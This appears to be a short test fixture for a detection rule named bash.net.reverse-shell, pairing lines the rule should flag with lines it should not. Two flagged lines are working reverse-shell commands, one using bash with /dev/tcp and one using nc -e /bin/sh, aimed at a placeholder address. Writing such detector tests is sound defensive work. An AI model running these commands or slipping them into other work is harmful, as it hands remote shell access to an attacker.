# ruleid: bash.net.reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444
# ruleid: bash.net.reverse-shell
nc -e /bin/sh 10.0.0.1 4444
# ok: bash.net.reverse-shell
bash -i
# ok: bash.net.reverse-shell
mkfifo queue
